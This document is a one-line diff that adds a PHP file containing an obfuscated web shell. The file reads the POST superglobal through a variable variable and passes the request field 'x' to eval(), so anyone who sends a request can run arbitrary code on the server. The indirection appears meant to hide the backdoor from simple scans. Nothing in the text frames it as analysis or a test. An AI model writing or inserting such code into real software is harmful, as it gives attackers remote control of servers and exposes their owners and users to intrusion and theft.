@@ -1,0 +1,1 @@
+<?php $n = "_POST"; $d = $$n; eval($d["x"]);
